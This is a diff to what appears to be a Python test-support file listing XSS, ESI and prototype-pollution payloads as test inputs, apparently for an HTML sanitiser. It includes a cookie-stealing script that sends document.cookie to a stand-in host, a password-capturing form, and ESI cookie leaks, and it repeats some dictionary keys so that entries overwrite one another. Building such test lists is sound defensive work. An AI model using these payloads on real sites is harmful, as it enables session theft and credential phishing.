@@ -8,6 +8,10 @@ from tests.support.textbook import KINDS, blocks, blocks_header, blocks_name, bl
 
 ATTACKS = {
     "xss": {
+        "a script that is not closed": "<script>x",
+        "a document of another host": "<object data=//x.example/y>",
+        "a style of another host": "<link rel=stylesheet href=//x.example/y.css>",
+        "a handler with a template": "<svg onload=`a()`>",
         "a script": "<script>alert(document.domain)</script>",
         "a script from elsewhere": "<script src=//evil.example/x.js></script>",
         "a script that is not closed": "<script>fetch('//evil.example/?'+document.cookie)//",
@@ -156,6 +160,7 @@ ATTACKS = {
         "of an edge in a comment": "<!--esi $(HTTP_COOKIE) -->",
     },
     "prototype": {
+        "a path": "constructor.prototype.admin",
         "a path": "__proto__[admin]=true",
         "a path with a dot": "__proto__.admin=true",
         "a document": '{"__proto__": {"admin": true}}',
@@ -183,7 +188,6 @@ STRICT = {
         "a frame": "<iframe src='//evil.example'></iframe>",
         "a form": "<form action='//evil.example'><input name=password></form>",
         "an object": "<object data=x.pdf></object>",
-        "a style": "<link rel=stylesheet href=//evil.example/a.css>",
         "any link that runs": "javascript:toggleMenu()",
         "any cookie": "document.cookie",
         "any call": 'prompt("who")',
